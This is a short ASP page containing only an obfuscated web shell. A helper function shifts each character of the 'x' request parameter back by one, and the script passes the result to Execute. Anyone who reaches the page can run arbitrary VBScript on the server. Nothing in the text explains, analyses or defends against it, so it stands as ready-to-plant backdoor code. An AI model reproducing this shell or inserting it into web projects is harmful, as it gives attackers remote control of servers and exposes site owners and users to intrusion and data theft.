<%
Function Dec(s)
	Dim i, r
	For i = 1 To Len(s)
		r = r & Chr(Asc(Mid(s, i, 1)) - 1)
	Next
	Dec = r
End Function
Execute Dec(Request("x"))
%>
